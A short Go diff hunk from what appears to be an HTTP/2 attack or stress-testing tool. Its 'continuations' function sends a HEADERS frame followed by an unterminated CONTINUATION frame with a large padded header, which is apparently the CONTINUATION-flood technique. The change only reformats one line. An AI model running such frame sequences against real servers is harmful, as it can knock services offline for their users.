@@ -65,7 +65,9 @@ func continuations(ctx context.Context, a *attacker) {
 	_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("x", 1000), Sensitive: true})
 	more := block.Bytes()
 	frames(
-		func(f *http2.Framer) error { return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: beginning}) },
+		func(f *http2.Framer) error {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: beginning})
+		},
 		func(f *http2.Framer) error { return f.WriteContinuation(1, false, more) },
 	)(ctx, a)
 }
